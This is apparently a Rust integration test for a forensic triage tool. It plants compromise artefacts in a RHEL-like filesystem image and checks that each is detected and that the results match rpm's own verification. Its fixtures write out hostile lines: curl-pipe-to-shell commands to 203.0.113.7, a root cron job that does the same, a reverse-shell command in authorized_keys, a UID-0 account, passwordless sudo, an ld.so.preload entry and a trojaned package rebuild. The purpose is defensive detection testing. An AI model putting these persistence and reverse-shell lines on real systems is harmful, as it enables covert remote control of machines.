//! `rescue triage` on a RHEL-like root (issue 18): the rpmdb (SQLite) is made by Debian's `rpm` from
//! packages built with `rpmbuild` (`common/pkgroots.rs`), the root is copied into an ext4 filesystem
//! image with `mke2fs -d` (compromised, also into XFS, the RHEL default) and triaged through its
//! read-only loop mount. Clean, it gives nothing of severity medium or higher; compromised the way
//! RHEL systems are (a root crontab in `/var/spool/cron`, a unit in `/etc/systemd/system`, a PAM module
//! in `/usr/lib64/security`, package files changed), every plant is found, and the package files
//! triage reports as changed are exactly the ones `rpm --root … -Va` reports, on both filesystems.

#[path = "common/pkgroots.rs"]
mod pkgroots;

use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use pkgroots::run;

fn rescue(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rescue"))
        .args(args)
        .env_remove("RESCUE_SYSTEM")
        .env("COLUMNS", "80")
        .output()
        .unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn write(root: &Path, rel: &str, data: &[u8], mode: u32) {
    let p = root.join(rel.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, data).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn rank(sev: &str) -> u8 {
    ["critical", "high", "medium", "low", "info"]
        .iter()
        .position(|s| *s == sev)
        .unwrap() as u8
}

/// An ext4 filesystem image (no partition table) holding `tree`.
fn ext4_image(dir: &Path, tree: &Path, name: &str) -> PathBuf {
    let img = dir.join(format!("{name}.ext4"));
    run(Command::new("mke2fs")
        .args(["-q", "-F", "-t", "ext4", "-d"])
        .arg(tree)
        .arg(&img)
        .arg("64M"));
    img
}

/// An XFS filesystem image holding `tree`, the RHEL default. Debian 12's `mkfs.xfs` (6.1) takes only
/// a protofile with `-p`, not a directory, so the empty filesystem is mounted through a loop device
/// and filled with `cp -a` (owners, modes, setuid bits, symlinks and xattrs kept).
fn xfs_image(dir: &Path, tree: &Path, name: &str) -> PathBuf {
    let img = dir.join(format!("{name}.xfs"));
    // mkfs.xfs refuses less than 300 MiB; the file stays sparse.
    std::fs::File::create(&img)
        .unwrap()
        .set_len(320 << 20)
        .unwrap();
    run(Command::new("mkfs.xfs").args(["-q", "-f"]).arg(&img));
    let mnt = dir.join(format!("{name}-mnt"));
    std::fs::create_dir_all(&mnt).unwrap();
    let dev = run(Command::new("losetup").args(["-f", "--show"]).arg(&img));
    let dev = String::from_utf8_lossy(&dev).trim().to_owned();
    // A loop device keeps the kernel's read-only flag of its last use (rescue write-blocks the loop
    // devices it attaches): cleared for this writable one.
    let setrw = Command::new("blockdev")
        .args(["--setrw", &dev])
        .status()
        .unwrap();
    let mounted = setrw.success()
        && Command::new("mount")
            .args(["-t", "xfs", &dev])
            .arg(&mnt)
            .status()
            .unwrap()
            .success();
    let copied = mounted.then(|| {
        Command::new("cp")
            .arg("-a")
            .arg(tree.join("."))
            .arg(&mnt)
            .output()
            .unwrap()
    });
    if mounted {
        run(Command::new("umount").arg(&mnt));
    }
    run(Command::new("losetup").args(["-d", &dev]));
    assert!(mounted, "mounting {} writable on {dev}", img.display());
    let copied = copied.unwrap();
    assert!(
        copied.status.success(),
        "cp -a into the XFS image: {}",
        String::from_utf8_lossy(&copied.stderr)
    );
    img
}

fn triage(img: &Path, out: &Path) -> (Output, serde_json::Value) {
    let o = rescue(&["triage", s(img), "--out", s(out)]);
    let report: serde_json::Value = match std::fs::read(out.join("findings.json")) {
        Ok(b) => serde_json::from_slice(&b).unwrap(),
        Err(e) => panic!("no findings.json ({e}): {}", text(&o)),
    };
    run(Command::new("sha256sum")
        .args(["-c", "SHA256SUMS"])
        .current_dir(out));
    (o, report)
}

fn findings(report: &serde_json::Value) -> &Vec<serde_json::Value> {
    report["findings"].as_array().unwrap()
}

/// The paths triage reports as package files changed since installation.
fn changed_package_files(report: &serde_json::Value) -> BTreeSet<String> {
    findings(report)
        .iter()
        .filter(|f| {
            f["category"] == "package"
                && f["why"]
                    .as_str()
                    .unwrap()
                    .contains("changed since installation")
        })
        .map(|f| f["path"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn a_compromised_rpm_root_image_shows_every_plant_and_agrees_with_rpm_va() {
    const NAME: &str = "a_compromised_rpm_root_image_shows_every_plant_and_agrees_with_rpm_va";
    for tool in ["mke2fs", "mkfs.xfs", "sha256sum"] {
        if !pkgroots::have(tool) && !pkgroots::skip(NAME, &format!("{tool} is not installed")) {
            return;
        }
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (root, work) = (d.join("root"), d.join("work"));
    std::fs::create_dir_all(&root).unwrap();
    if pkgroots::rpm_root(NAME, &root, &work).is_none() {
        return;
    }
    // What a RHEL 9 root has besides its packages: os-release, shadow, root's home.
    write(
        &root,
        "/etc/os-release",
        b"NAME=\"Rocky Linux\"\nID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\nVERSION_ID=\"9.3\"\nPRETTY_NAME=\"Rocky Linux 9.3 (Blue Onyx)\"\n",
        0o644,
    );
    write(
        &root,
        "/etc/shadow",
        b"root:$6$rounds=5000$saltsaltsalt$Qx7hQ5oV1s2F0m3aWb4cD5eF6gH7iJ8kL9mN0oP1qR2sT3uV4wX5yZ6aB7cD8eF9gH0iJ1kL2mN3oP4qR5sT6u:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nnobody:*:19700:0:99999:7:::\n",
        0o000,
    );
    std::fs::create_dir_all(root.join("root")).unwrap();
    std::fs::set_permissions(root.join("root"), std::fs::Permissions::from_mode(0o550)).unwrap();

    // Clean: the rpmdb is read, nothing is medium or worse, and rpm -Va agrees nothing changed.
    let img = ext4_image(d, &root, "clean");
    let (o, report) = triage(&img, &d.join("out-clean"));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(report["roots"][0]["fstype"], "ext4");
    assert_eq!(
        report["roots"][0]["package_db"], "rpm",
        "{}",
        report["roots"]
    );
    assert_eq!(report["roots"][0]["os"], "Rocky Linux 9.3 (Blue Onyx)");
    let serious: Vec<String> = findings(&report)
        .iter()
        .filter(|f| rank(f["severity"].as_str().unwrap()) <= 2)
        .map(|f| format!("{} {}: {}", f["severity"], f["path"], f["why"]))
        .collect();
    assert!(serious.is_empty(), "clean rpm root: {serious:#?}");
    assert!(changed_package_files(&report).is_empty());
    assert!(pkgroots::rpm_va_changed(&root).is_empty());
    // The package's own setuid program is listed with its package, not flagged.
    let su = findings(&report)
        .iter()
        .find(|f| f["path"] == "/usr/sbin/rt-su")
        .expect("the packaged setuid program is listed");
    assert_eq!(su["severity"], "info");
    assert_eq!(su["evidence"]["package"], "rescue-tools");
    assert_eq!(su["evidence"]["package_db"], "rpm");
    std::fs::remove_file(&img).unwrap();

    // Package files changed: content (script and library, same size), mode, owner, link target,
    // a configuration file, a missing file.
    let append = |p: &str, extra: &[u8]| {
        let path = root.join(p);
        let mut b = std::fs::read(&path).unwrap();
        b.extend_from_slice(extra);
        std::fs::write(&path, b).unwrap();
    };
    append("usr/bin/rt-hello", b"curl -s http://203.0.113.7/k | sh\n");
    append("etc/rt.conf", b"backdoor = 1\n");
    let lib = root.join("usr/lib64/librt-demo.so.1");
    let mut b = std::fs::read(&lib).unwrap();
    b[1_000_000] ^= 0x55;
    std::fs::write(&lib, b).unwrap();
    std::fs::set_permissions(
        root.join("usr/bin/rt-world"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    std::os::unix::fs::chown(root.join("usr/share/rt/data.txt"), Some(65534), None).unwrap();
    std::fs::remove_file(root.join("usr/sbin/rtd")).unwrap();
    std::fs::remove_file(root.join("usr/bin/rt-link")).unwrap();
    std::os::unix::fs::symlink("/var/tmp/.r/rt", root.join("usr/bin/rt-link")).unwrap();
    // Persistence where RHEL keeps it.
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0planted";
    append("etc/passwd", b"sysadm:x:0:0:sysadm:/root:/bin/bash\n");
    write(
        &root,
        "/var/spool/cron/root",
        b"*/10 * * * * curl -fsSL http://203.0.113.7/x | bash\n",
        0o600,
    );
    write(
        &root,
        "/root/.ssh/authorized_keys",
        b"command=\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x@c2\n",
        0o600,
    );
    write(
        &root,
        "/etc/systemd/system/rhsm-check.service",
        b"[Service]\nExecStart=/var/tmp/.r/rt\n[Install]\nWantedBy=multi-user.target\n",
        0o644,
    );
    write(
        &root,
        "/etc/sudoers.d/90-cloud-init-users",
        b"sysadm ALL=(ALL) NOPASSWD: ALL\n",
        0o440,
    );
    write(
        &root,
        "/etc/ld.so.preload",
        b"/usr/lib64/libselinux.so.9\n",
        0o644,
    );
    write(&root, "/usr/lib64/security/pam_sso.so", elf, 0o755);
    write(&root, "/usr/bin/rt-sudo", elf, 0o4755);
    write(&root, "/var/tmp/.r/rt", elf, 0o755);

    let img = ext4_image(d, &root, "compromised");
    let (o, report) = triage(&img, &d.join("out"));
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        assert!(
            line.chars().count() <= 80,
            "wider than 80 columns: {line:?}"
        );
    }
    let plants = [
        ("package", "/usr/bin/rt-hello", "high"),
        ("package", "/usr/bin/rt-world", "high"),
        ("package", "/usr/lib64/librt-demo.so.1", "high"),
        ("package", "/usr/bin/rt-link", "high"),
        ("package", "/usr/share/rt/data.txt", "high"),
        ("package", "/etc/rt.conf", "low"),
        ("package", "/usr/sbin/rtd", "low"),
        ("account", "/etc/passwd", "critical"),
        ("cron", "/var/spool/cron/root", "high"),
        ("ssh", "/root/.ssh/authorized_keys", "high"),
        ("systemd", "/etc/systemd/system/rhsm-check.service", "high"),
        ("sudo", "/etc/sudoers.d/90-cloud-init-users", "high"),
        ("loader", "/etc/ld.so.preload", "critical"),
        ("pam", "/usr/lib64/security/pam_sso.so", "critical"),
        ("setuid", "/usr/bin/rt-sudo", "high"),
        ("temp", "/var/tmp/.r/rt", "high"),
    ];
    let all = findings(&report);
    for (category, path, sev) in plants {
        let best = all
            .iter()
            .filter(|f| f["category"] == category && f["path"] == path)
            .map(|f| rank(f["severity"].as_str().unwrap()))
            .min();
        assert!(
            best.is_some_and(|b| b <= rank(sev)),
            "{category} {path}: expected {sev}, found {best:?} in {:#?}",
            all.iter().filter(|f| f["path"] == path).collect::<Vec<_>>()
        );
    }
    let rt_hello = all
        .iter()
        .find(|f| f["category"] == "package" && f["path"] == "/usr/bin/rt-hello")
        .unwrap();
    assert_eq!(rt_hello["evidence"]["package"], "rescue-tools");
    assert!(
        rt_hello["why"].as_str().unwrap().contains("rescue-tools"),
        "{rt_hello}"
    );

    // The external check: rpm itself, over the same tree the image was made from.
    let ours = changed_package_files(&report);
    let theirs = pkgroots::rpm_va_changed(&root);
    assert_eq!(ours, theirs, "triage vs rpm --root -Va");
    assert_eq!(ours.len(), 7, "{ours:?}");
    std::fs::remove_file(&img).unwrap();

    // The same compromised root on XFS, as RHEL installs it: mounted norecovery,nouuid, the same
    // plants found, the same changed files as rpm -Va.
    let img = xfs_image(d, &root, "compromised");
    let (o, xfs) = triage(&img, &d.join("out-xfs"));
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    assert_eq!(xfs["roots"][0]["fstype"], "xfs", "{}", xfs["roots"]);
    assert!(
        xfs["roots"][0]["mount_options"]
            .as_str()
            .is_some_and(|m| m.contains("norecovery")),
        "{}",
        xfs["roots"]
    );
    assert_eq!(xfs["roots"][0]["package_db"], "rpm");
    let on_xfs = |f: &serde_json::Value| {
        (
            f["category"].clone(),
            f["path"].clone(),
            f["severity"].clone(),
        )
    };
    let ext4_set: BTreeSet<String> = all.iter().map(|f| format!("{:?}", on_xfs(f))).collect();
    let xfs_set: BTreeSet<String> = findings(&xfs)
        .iter()
        .map(|f| format!("{:?}", on_xfs(f)))
        .collect();
    assert_eq!(xfs_set, ext4_set, "the same findings on XFS as on ext4");
    assert_eq!(
        changed_package_files(&xfs),
        theirs,
        "triage on XFS vs rpm --root -Va"
    );
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(!mounts.contains("examine-"), "unmounted afterwards");
    pkgroots::ran(NAME);
}

/// The changed files `rpm --root ROOT -Vp -` reports when given a package file on stdin (rpm opens a
/// `-p` path inside the root): the files on disk against that package's own header, whatever the
/// root's rpmdb says. Same columns as [`pkgroots::rpm_va_changed`].
fn rpm_vp_changed(root: &Path, rpm: &Path) -> BTreeSet<String> {
    let o = Command::new("rpm")
        .arg("--root")
        .arg(root)
        .args(["--dbpath", "/var/lib/rpm", "-Vp", "-"])
        .stdin(std::fs::File::open(rpm).unwrap())
        .output()
        .unwrap();
    assert!(
        o.stderr.is_empty(),
        "rpm -Vp: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .filter(|l| l.starts_with("missing") || l[..9].contains(['5', 'M', 'U', 'G', 'L']))
        .map(|l| l.split_whitespace().last().unwrap().to_owned())
        .collect()
}

/// `--packages-from` on an rpm root: a repository made by `createrepo_c` whose `repomd.xml` GnuPG
/// signed (checked with `gpgv` too). The attacker rebuilt `rescue-tools` with a trojaned `rt-hello`
/// under the same name, version and release and installed it over the real one, so the suspect's
/// rpmdb (and `rpm -Va`) vouches for the trojan; and installed a package of their own. Only the
/// signed repository shows them; the files triage reports as differing from the signed packages are
/// the ones `rpm -Vp` reports against the repository's package files.
#[test]
fn an_rpm_root_against_a_signed_repository_shows_a_package_rebuilt_by_the_attacker() {
    const NAME: &str =
        "an_rpm_root_against_a_signed_repository_shows_a_package_rebuilt_by_the_attacker";
    for tool in ["createrepo_c", "gpg", "gpgv"] {
        if !pkgroots::have(tool) && !pkgroots::skip(NAME, &format!("{tool} is not installed")) {
            return;
        }
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (root, work) = (d.join("root"), d.join("work"));
    std::fs::create_dir_all(&root).unwrap();
    if pkgroots::rpm_root(NAME, &root, &work).is_none() {
        return;
    }
    // The repository: the packages as built, indexed by createrepo_c, repomd.xml signed by GnuPG.
    let repo = d.join("media/el9/BaseOS");
    std::fs::create_dir_all(repo.join("Packages")).unwrap();
    let mut real = Vec::new();
    for e in std::fs::read_dir(&work).unwrap().flatten() {
        let rpms = e.path().join("RPMS/x86_64");
        for r in std::fs::read_dir(&rpms).into_iter().flatten().flatten() {
            let to = repo.join("Packages").join(r.file_name());
            std::fs::copy(r.path(), &to).unwrap();
            real.push(to);
        }
    }
    real.sort();
    assert_eq!(real.len(), 3, "{real:?}");
    run(Command::new("createrepo_c").arg("-q").arg(&repo));
    let gnupg = d.join("gnupg");
    std::fs::create_dir_all(&gnupg).unwrap();
    std::fs::set_permissions(&gnupg, std::fs::Permissions::from_mode(0o700)).unwrap();
    let gpg = |args: &[&str]| {
        let mut c = Command::new("gpg");
        c.env("GNUPGHOME", &gnupg)
            .args([
                "--batch",
                "--quiet",
                "--pinentry-mode",
                "loopback",
                "--passphrase",
                "",
            ])
            .args(args);
        c
    };
    run(&mut gpg(&[
        "--quick-gen-key",
        "Rescue Test Repository <repo@example.org>",
        "ed25519",
        "sign",
        "never",
    ]));
    let repomd = repo.join("repodata/repomd.xml");
    run(gpg(&[
        "--armor",
        "--digest-algo",
        "SHA256",
        "--detach-sign",
        "--output",
    ])
    .arg(repo.join("repodata/repomd.xml.asc"))
    .arg(&repomd));
    let keyring = d.join("repo-key.gpg");
    run(gpg(&["--output"]).arg(&keyring).arg("--export"));
    run(Command::new("gpgv")
        .arg("--keyring")
        .arg(&keyring)
        .arg(repo.join("repodata/repomd.xml.asc"))
        .arg(&repomd));

    let media = d.join("media");
    let triage_media = |out: &Path| {
        let o = rescue(&[
            "triage",
            s(&root),
            "--out",
            s(out),
            "--packages-from",
            s(&media),
            "--keyring",
            s(&keyring),
        ]);
        let report: serde_json::Value =
            serde_json::from_slice(&std::fs::read(out.join("findings.json")).unwrap()).unwrap();
        (o, report)
    };
    let from_media = |report: &serde_json::Value| -> BTreeSet<String> {
        findings(report)
            .iter()
            .filter(|f| {
                f["why"]
                    .as_str()
                    .unwrap()
                    .starts_with("differs from the signed package")
            })
            .map(|f| f["path"].as_str().unwrap().to_owned())
            .collect()
    };
    let notes = |report: &serde_json::Value| report["notes"].to_string();

    // Clean: every package compared, nothing differs.
    let (o, report) = triage_media(&d.join("out-clean"));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        notes(&report).contains("3 package(s) compared with signed packages"),
        "{}",
        notes(&report)
    );
    assert!(from_media(&report).is_empty(), "{}", report["findings"]);

    // The attacker's rebuild of rescue-tools (same NVR, trojaned rt-hello) and their own package.
    let mut pkgs = pkgroots::rpm_packages();
    pkgs.retain(|p| p.name == "rescue-tools");
    let hello = pkgs[0]
        .files
        .iter_mut()
        .find(|f| f.path == "/usr/bin/rt-hello")
        .unwrap();
    hello.content = pkgroots::RpmContent::File(
        b"#!/bin/sh\ncurl -s http://203.0.113.7/k | sh\necho hello\n".to_vec(),
    );
    pkgs.push(pkgroots::RpmPackage {
        name: "evil-tools",
        version: "1.0",
        files: vec![pkgroots::RpmFile {
            path: "/usr/libexec/evil/agent",
            // allow(sleep): a file planted in the suspect root, never run
            content: pkgroots::RpmContent::File(b"#!/bin/sh\nexec sleep 1\n".to_vec()),
            mode: 0o755,
            user: "root",
            group: "root",
            attr: "",
        }],
    });
    let evil = pkgroots::build_these_rpms(&d.join("evil"), pkgs);
    run(Command::new("rpm")
        .arg("--root")
        .arg(&root)
        .args([
            "--dbpath",
            "/var/lib/rpm",
            "-U",
            "--replacepkgs",
            "--nodeps",
            "--noscripts",
        ])
        .args(&evil));
    // And a configuration file changed by hand.
    let conf = root.join("etc/rt.conf");
    let mut c = std::fs::read(&conf).unwrap();
    c.extend_from_slice(b"listen = 0.0.0.0\n");
    std::fs::write(&conf, c).unwrap();
    assert_eq!(
        pkgroots::rpm_va_changed(&root),
        BTreeSet::from(["/etc/rt.conf".to_owned()]),
        "the local rpmdb vouches for the trojan"
    );

    let (o, report) = triage_media(&d.join("out"));
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    let ours = from_media(&report);
    let mut theirs = BTreeSet::new();
    for r in &real {
        theirs.extend(rpm_vp_changed(&root, r));
    }
    assert_eq!(
        ours, theirs,
        "triage --packages-from vs rpm -Vp on the signed packages"
    );
    assert!(ours.contains("/usr/bin/rt-hello"), "{ours:?}");
    let all = findings(&report);
    let hello = all
        .iter()
        .find(|f| {
            f["path"] == "/usr/bin/rt-hello"
                && f["why"]
                    .as_str()
                    .unwrap()
                    .starts_with("differs from the signed package rescue-tools")
        })
        .unwrap();
    assert_eq!(hello["severity"], "high");
    assert!(
        !all.iter().any(|f| f["path"] == "/usr/bin/rt-hello"
            && f["why"]
                .as_str()
                .unwrap()
                .contains("changed since installation")),
        "the suspect's rpmdb has the trojan's digest"
    );
    let unlisted = all
        .iter()
        .find(|f| {
            f["why"]
                .as_str()
                .unwrap()
                .starts_with("installed package evil-tools")
        })
        .unwrap_or_else(|| panic!("evil-tools is reported: {}", report["findings"]));
    assert_eq!(unlisted["severity"], "medium");
    assert_eq!(unlisted["path"], "/var/lib/rpm/rpmdb.sqlite");

    // A repository whose repomd.xml was changed after signing proves nothing.
    let mut md = std::fs::read(&repomd).unwrap();
    md.extend_from_slice(b"\n<!-- -->\n");
    std::fs::write(&repomd, md).unwrap();
    let (_, report) = triage_media(&d.join("out-bad"));
    assert!(from_media(&report).is_empty());
    assert!(notes(&report).contains("repomd.xml"), "{}", notes(&report));
    pkgroots::ran(NAME);
}
